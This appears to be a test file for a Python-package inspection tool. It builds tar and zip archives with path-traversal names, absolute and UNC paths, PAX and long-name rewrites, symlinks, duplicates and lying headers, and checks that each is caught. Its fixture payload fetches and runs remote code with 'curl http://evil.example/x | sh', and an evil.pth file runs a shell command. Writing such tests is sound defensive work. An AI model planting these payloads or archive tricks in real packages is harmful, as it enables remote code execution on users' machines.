/**
 * Hostile member names and types: traversal, absolute, backslash and drive-letter paths; links, devices,
 * FIFOs; PAX headers that rewrite path or size; duplicates (tar: last wins; zip: the central directory
 * decides, a disagreeing local header is flagged).
 */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { tarArchive, paxHeader, type TarMember } from '../unpack/tar-builder.js';
import { zipArchive } from '../unpack/zip-builder.js';
import { decide, expectFails, fileText, paths, printSummary, skippedReasons } from './harness.js';

printSummary('entries');

const SETUP = { name: 'demo-1.0/setup.py', body: 'from setuptools import setup\nsetup(name="demo", version="1.0")\n' };
const PAYLOAD = 'import os\nos.system("curl http://evil.example/x | sh")\n';
const META = { name: 'demo-1.0.dist-info/METADATA', data: 'Name: demo\nVersion: 1.0\n' };
const sdist = (members: TarMember[]): Buffer => gzipSync(tarArchive([SETUP, ...members]));

describe('paths that try to leave the package', () => {
  const escapes: [string, string, string][] = [
    ['dot-dot', 'demo-1.0/../../evil.py', 'path-traversal'],
    ['absolute', '/etc/cron.d/evil', 'absolute-path'],
    ['backslash dot-dot', '..\\evil.py', 'path-traversal'],
    ['backslash inside', 'demo-1.0\\..\\..\\evil.py', 'path-traversal'],
    ['drive letter', 'C:/Windows/evil.py', 'absolute-path'],
    ['drive-relative', 'C:evil.py', 'absolute-path'],
    ['UNC', '\\\\server\\share\\evil.py', 'absolute-path'],
  ];
  for (const [label, name, reason] of escapes) {
    it(`tar: ${label} (${name}) is skipped, reported and flagged`, async () => {
      const d = await decide(`tar ${label}`, sdist([{ name, body: PAYLOAD }]), 'demo-1.0.tar.gz');
      expect(skippedReasons(d.contents)).toContain(`${reason}:${name}`);
      expect(paths(d.contents)).toEqual(['setup.py']);
      expect(d.rules).toContain('customs/partial-analysis');
      expect(d.inspection.verdict.decision).not.toBe('pass');
    });
  }

  it('zip: the same names in a wheel are skipped and reported', async () => {
    const names = escapes.map(([, name]) => name);
    const zip = zipArchive([{ name: 'demo/__init__.py', data: 'X = 1\n' }, ...names.map((name) => ({ name, data: PAYLOAD })), META]);
    const d = await decide('zip escapes', zip, 'demo-1.0-py3-none-any.whl');
    expect(paths(d.contents)).toEqual(['demo-1.0.dist-info/METADATA', 'demo/__init__.py']);
    expect(d.contents.skipped.map((s) => s.archivePath).sort()).toEqual([...names].sort());
    expect(d.rules).toContain('customs/partial-analysis');
  });

  it('a PAX header that rewrites a harmless name into ../ is judged by the rewritten name', async () => {
    const tar = sdist([paxHeader({ path: '../../home/user/.bashrc' }), { name: 'demo-1.0/harmless.txt', body: PAYLOAD }]);
    const d = await decide('pax path', tar, 'demo-1.0.tar.gz');
    expect(skippedReasons(d.contents)).toContain('path-traversal:../../home/user/.bashrc');
    expect(paths(d.contents)).toEqual(['setup.py']);
  });
});

describe('names from extended headers and unknown types', () => {
  it('a GNU long name (type L) that climbs out is judged by the long name', async () => {
    const tar = sdist([{ name: '././@LongLink', type: 'L', body: '../../../../etc/profile.d/evil.sh\0' }, { name: 'demo-1.0/short.txt', body: PAYLOAD }]);
    const d = await decide('gnu long name', tar, 'demo-1.0.tar.gz');
    expect(skippedReasons(d.contents)).toContain('path-traversal:../../../../etc/profile.d/evil.sh');
    expect(paths(d.contents)).toEqual(['setup.py']);
  });

  it('a member of unknown type is read as a regular file (as tar and tarfile extract it), so it is inspected', async () => {
    const d = await decide('unknown type', sdist([{ name: 'demo-1.0/demo/__init__.py', type: 'Z', body: PAYLOAD }]), 'demo-1.0.tar.gz');
    expect(fileText(d.contents, 'demo/__init__.py')).toBe(PAYLOAD);
    expectFails(d);
  });

  it('a PAX header over node-tar\'s 1 MiB cap is reported and the package fails', async () => {
    const d = await decide('huge pax', sdist([paxHeader({ comment: 'x'.repeat(1100 * 1024) }), { name: 'demo-1.0/a.py', body: PAYLOAD }]), 'demo-1.0.tar.gz');
    expect(d.contents.error).toMatch(/extended header/);
    expectFails(d);
  });
});

describe('links, devices and FIFOs', () => {
  it('symlinks, hard links, devices and FIFOs are never read as files, and each is reported', async () => {
    const tar = sdist([
      { name: 'demo-1.0/link.py', type: '2', linkname: '/etc/passwd' },
      { name: 'demo-1.0/hard.py', type: '1', linkname: 'demo-1.0/setup.py' },
      { name: 'demo-1.0/char', type: '3' },
      { name: 'demo-1.0/block', type: '4' },
      { name: 'demo-1.0/fifo', type: '6' },
    ]);
    const d = await decide('links and devices', tar, 'demo-1.0.tar.gz');
    expect(paths(d.contents)).toEqual(['setup.py']);
    expect(d.contents.skipped.map((s) => s.reason).sort()).toEqual(['hardlink', 'special-file', 'special-file', 'special-file', 'symlink']);
    expect(d.contents.skipped.find((s) => s.reason === 'symlink')?.detail).toMatch(/\/etc\/passwd/);
    expect(d.inspection.contents.skipped).toHaveLength(5);
  });

  it('a file replaced by a later symlink of the same name is not inspected twice (the link wins, reported)', async () => {
    const tar = sdist([
      { name: 'demo-1.0/mod.py', body: PAYLOAD },
      { name: 'demo-1.0/mod.py', type: '2', linkname: 'setup.py' },
    ]);
    const d = await decide('file then symlink', tar, 'demo-1.0.tar.gz');
    expect(paths(d.contents)).toEqual(['setup.py']);
    expect(skippedReasons(d.contents)).toEqual(['duplicate-entry:demo-1.0/mod.py', 'symlink:demo-1.0/mod.py']);
  });

  it('zip unix modes (symlink, FIFO) are ignored: pip writes the bytes as a regular file, so they are inspected', async () => {
    const zip = zipArchive([
      { name: 'evil.pth', data: 'import os; os.system("id")\n', mode: 0o120777 },
      { name: 'demo/__init__.py', data: PAYLOAD, mode: 0o010644 },
      { name: 'demo-1.0.dist-info/METADATA', data: 'Name: demo\nVersion: 1.0\n' },
    ]);
    const d = await decide('zip modes', zip, 'demo-1.0-py3-none-any.whl');
    expect(paths(d.contents)).toEqual(['demo-1.0.dist-info/METADATA', 'demo/__init__.py', 'evil.pth']);
    expectFails(d);
  });
});

describe('PAX size and duplicates', () => {
  it('a PAX size overrides the header size, as tarfile reads it: the hidden tail is inspected', async () => {
    const body = Buffer.from(`X = 1\n${PAYLOAD}`);
    const member = { name: 'demo-1.0/demo/__init__.py', body, size: 6 };
    const d = await decide('pax size', sdist([paxHeader({ size: String(body.length) }), member]), 'demo-1.0.tar.gz');
    expect(fileText(d.contents, 'demo/__init__.py')).toBe(body.toString());
    expectFails(d);
  });

  it('tar: of two members with one name the last is inspected (what extraction leaves); the first is reported', async () => {
    const tar = sdist([
      { name: 'demo-1.0/demo/__init__.py', body: 'X = 1\n' },
      { name: 'demo-1.0/demo/__init__.py', body: PAYLOAD },
    ]);
    const d = await decide('tar duplicate', tar, 'demo-1.0.tar.gz');
    expect(fileText(d.contents, 'demo/__init__.py')).toBe(PAYLOAD);
    expect(skippedReasons(d.contents)).toContain('duplicate-entry:demo-1.0/demo/__init__.py');
    expectFails(d);
  });

  it('zip: of two entries with one name the last is inspected (pip extracts every entry in order)', async () => {
    const zip = zipArchive([
      { name: 'demo/__init__.py', data: 'X = 1\n' },
      { name: 'demo/__init__.py', data: PAYLOAD },
      { name: 'demo-1.0.dist-info/METADATA', data: 'Name: demo\nVersion: 1.0\n' },
    ]);
    const d = await decide('zip duplicate', zip, 'demo-1.0-py3-none-any.whl');
    expect(fileText(d.contents, 'demo/__init__.py')).toBe(PAYLOAD);
    expect(skippedReasons(d.contents)).toContain('duplicate-entry:demo/__init__.py');
    expectFails(d);
  });

  it('zip: a local header naming another file than the central directory is flagged (zipfile refuses it)', async () => {
    const zip = zipArchive([
      { name: 'demo/__init__.py', data: 'X = 1\n', localName: 'demo/__init__.pz' },
      { name: 'demo-1.0.dist-info/METADATA', data: 'Name: demo\nVersion: 1.0\n' },
    ]);
    const d = await decide('zip local name', zip, 'demo-1.0-py3-none-any.whl');
    expect(paths(d.contents)).toContain('demo/__init__.py');
    expect(d.contents.error).toMatch(/demo\/__init__\.py is named "demo\/__init__\.pz" in its local header/);
    expectFails(d);
  });

  it('zip: a local header with another size is ignored; the central directory decides, as in zipfile', async () => {
    const zip = zipArchive([
      { name: 'demo/__init__.py', data: PAYLOAD, localSize: 3 },
      { name: 'demo-1.0.dist-info/METADATA', data: 'Name: demo\nVersion: 1.0\n' },
    ]);
    const d = await decide('zip local size', zip, 'demo-1.0-py3-none-any.whl');
    expect(fileText(d.contents, 'demo/__init__.py')).toBe(PAYLOAD);
    expectFails(d);
  });

  it('zip: a central size that lies about the data is flagged and the real bytes are inspected', async () => {
    const zip = zipArchive([{ name: 'demo/__init__.py', data: PAYLOAD, declaredSize: 3 }, META]);
    const d = await decide('zip central size', zip, 'demo-1.0-py3-none-any.whl');
    expect(fileText(d.contents, 'demo/__init__.py')).toBe(PAYLOAD);
    expect(d.contents.error).toMatch(/header says 3 bytes/);
    expectFails(d);
  });
});
